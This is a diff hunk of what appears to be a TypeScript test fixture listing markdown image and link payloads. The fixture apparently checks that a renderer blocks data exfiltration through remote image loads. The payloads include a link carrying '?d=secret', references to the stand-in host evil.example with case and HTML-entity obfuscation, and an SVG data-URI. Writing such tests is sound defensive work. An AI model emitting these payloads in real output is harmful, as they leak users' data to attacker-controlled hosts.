@@ -55,7 +55,7 @@ const images: readonly Sketch[] = [
   (_, address) => `![leak]\n\n[leak]: <${address}/chart?d=secret> "x"`,
   (_, address) => `[![x](${address}.png)](${address})`,
   (_, address) => `![x](//${new URL(address).host}/x.png) ![y](/x.png) ![z](x.png)`,
-  (_, address) => `![x](HTTPS://EVIL.EXAMPLE/x.png) ![y](h&#116;tps://evil.example/y.png)`,
+  () => `![x](HTTPS://EVIL.EXAMPLE/x.png) ![y](h&#116;tps://evil.example/y.png)`,
   (_, address) =>
     `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}"/></svg>)`,
   (code) =>
